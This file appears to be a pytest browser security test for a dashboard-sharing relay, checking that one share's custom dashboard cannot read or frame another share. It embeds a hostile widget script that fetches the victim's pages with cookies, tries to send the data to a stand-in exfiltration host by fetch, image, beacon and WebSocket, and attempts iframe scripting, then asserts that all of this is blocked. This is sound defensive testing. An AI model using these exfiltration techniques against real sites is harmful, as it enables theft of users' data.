"""A hostile custom dashboard cannot reach another share the same viewer opened.

Real Chromium, one relay, two owners: share A (the generic dashboard) and share C, whose
owner wrote a dashboard with a widget of their own JavaScript. The viewer opens A first
(A's cookie and note key now exist in the browser), then C. C's script tries what worked
when every share sat on the relay's one origin: read A's pages and API with the viewer's
cookie, and script a hidden frame of A's dashboard.
"""

from __future__ import annotations

import http.server
import json
import threading
from pathlib import Path

import pytest

from p2p2p.client import parse_link

from ..helpers.browser import browser_page
from ..helpers.sharing import Relay, Share, origin_of

pytestmark = pytest.mark.timeout(600)

PROBE = '''
import anywidget, traitlets

class Probe(anywidget.AnyWidget):
    _esm = """
    export default {
      async render({ model, el }) {
        const out = {};
        for (const [name, url] of Object.entries(model.get("targets"))) {
          try {
            const r = await fetch(url, { credentials: "include" });
            out[name] = "read " + r.status + " " + (await r.text()).slice(0, 80);
          } catch (e) {
            out[name] = "blocked";
          }
        }
        // Try to send what it read to a host of its own, every way a page can.
        const leak = model.get("leak");
        try { await fetch(leak + "?via=fetch", { method: "POST", body: "rows", mode: "no-cors" }); }
        catch (e) { out.leak_fetch = "blocked"; }
        new Image().src = leak + "?via=image";
        try { navigator.sendBeacon(leak + "?via=beacon", "rows"); } catch (e) {}
        try { new WebSocket(leak.replace("http", "ws") + "?via=websocket"); } catch (e) {}
        const frame = document.createElement("iframe");
        frame.src = model.get("page");
        document.body.appendChild(frame);
        await new Promise((done) => setTimeout(done, 4000));
        try {
          const doc = frame.contentDocument;
          out.frame = doc ? "scripted: " + doc.body.innerText.slice(0, 80) : "blocked";
        } catch (e) {
          out.frame = "blocked";
        }
        el.innerHTML = '<pre class="probe-result"></pre>';
        el.querySelector("pre").textContent = JSON.stringify(out);
      },
    };
    """
    targets = traitlets.Dict().tag(sync=True)
    page = traitlets.Unicode().tag(sync=True)
    leak = traitlets.Unicode().tag(sync=True)

Probe(targets=TARGETS, page=PAGE, leak=LEAK)
'''


def test_a_hostile_dashboard_cannot_read_or_frame_another_share(
    relay: Relay, sample_store: str, tmp_path: Path
) -> None:
    import nbformat

    leak = Listener()
    victim = Share(sample_store, relay.url, tmp_path / "alice", "--dashboard", "--name", "alpha")
    try:
        link = parse_link(victim.link)
        own = f"{origin_of(link.share_id, relay.url)}/s/{link.share_id}/"
        targets = {
            "own_origin_page": own,
            "own_origin_api": f"{own}api/schema",
            "relay_origin_page": f"{link.share_url}/",
            "relay_origin_api": f"{link.share_url}/api/schema",
        }
        notebook = tmp_path / "hostile.ipynb"
        nb = nbformat.v4.new_notebook()
        source = (
            PROBE.replace("TARGETS", json.dumps(targets))
            .replace("PAGE", json.dumps(own))
            .replace("LEAK", json.dumps(leak.url))
        )
        nb.cells = [nbformat.v4.new_code_cell(source)]
        nbformat.write(nb, notebook)
        hostile = Share(sample_store, relay.url, tmp_path / "mallory", "--dashboard", str(notebook))
        try:
            with browser_page(1024, 900) as page:
                asked: list[str] = []
                failed: dict[str, str] = {}
                page.on("request", lambda request: asked.append(request.url))
                page.on("requestfailed", lambda r: failed.setdefault(r.url, str(r.failure)))
                # The viewer opens A: its cookie and the dashboard are on A's own origin.
                page.goto(victim.link, wait_until="domcontentloaded", timeout=120_000)
                page.locator(".p2p2p-table-name", has_text="sales").wait_for(timeout=120_000)
                assert page.url == own
                # Voila's pages ask a CDN for an icon font; the page's policy stops that
                # in the browser, before anything leaves the machine.
                elsewhere = [u for u in asked if not _on_this_machine(u)]
                for url in elsewhere:
                    assert failed.get(url) == "csp", (url, failed.get(url))  # by the policy
                # Then C, whose script goes after A.
                page.goto(hostile.link, wait_until="domcontentloaded", timeout=120_000)
                result = page.locator(".probe-result")
                result.wait_for(timeout=120_000)
                found = json.loads(result.inner_text())
                assert page.url.startswith(origin_of(parse_link(hostile.link).share_id, relay.url))
        finally:
            hostile.stop()
    finally:
        victim.stop()
        leak.close()
    # Nothing the page read left for another host: the policy stopped every channel in
    # the browser, so the listener never heard a thing.
    assert leak.heard == [], leak.heard
    for name in targets:
        # Another origin without CORS: the browser never hands the answer to the script;
        # on the relay's origin there is no cookie of A's at all.
        assert found[name] == "blocked" or (
            found[name].startswith("read 403") and "relay_origin" in name
        ), (name, found[name])
    assert found["frame"] == "blocked", found["frame"]


class Listener:
    """An HTTP server on loopback that records every request: the exfiltrator's host."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"GET {self.path}")
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:
                heard.append(f"POST {self.path}")
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/leak"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _on_this_machine(url: str) -> bool:
    from urllib.parse import urlsplit

    host = urlsplit(url).hostname or ""
    return (
        url.startswith(("data:", "blob:"))
        or host in ("127.0.0.1", "localhost")
        or (host.endswith(".localhost"))
    )
